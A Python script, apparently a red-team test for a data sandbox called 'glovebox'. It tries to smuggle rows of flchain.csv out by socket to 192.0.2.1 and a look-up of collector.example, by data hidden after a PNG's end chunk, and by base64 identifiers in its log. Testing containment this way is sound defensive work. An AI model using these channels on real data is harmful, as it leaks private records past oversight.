"""A program that tries to carry rows out. Every way it takes is closed; `glovebox demo` shows by what.

  1. the network: a web request, and a name look-up
  2. raw rows behind the last chunk of a PNG picture, where no viewer looks
  3. identifiers in base64 in its log
"""
import base64
import json
import os
import socket
import struct
import zlib

DATA, OUT = os.environ["GLOVEBOX_DATA"], os.environ["GLOVEBOX_OUT"]
with open(f"{DATA}/flchain.csv") as f:
    lines = f.read().splitlines()

attempts = {}


def attempt(name, act):
    try:
        act()
        attempts[name] = "succeeded"
    except OSError as e:
        attempts[name] = f"refused: {type(e).__name__} {e.strerror or e}"


def connect():
    with socket.create_connection(("192.0.2.1", 443), timeout=3) as s:
        s.sendall("\n".join(lines[:100]).encode())


attempt("network", connect)
attempt("dns", lambda: socket.getaddrinfo("collector.example", 443))


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


pixels = zlib.compress(b"".join(b"\x00" + b"\xff\xff\xff" * 64 for _ in range(64)))
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
with open(f"{OUT}/figure.png", "wb") as f:
    f.write(picture + "\n".join(lines[1:201]).encode())

for line in lines[1:101]:
    print(base64.b64encode(line.split(",")[0].strip('"').encode()).decode())

with open(f"{OUT}/attempts.json", "w") as f:
    json.dump(attempts, f)
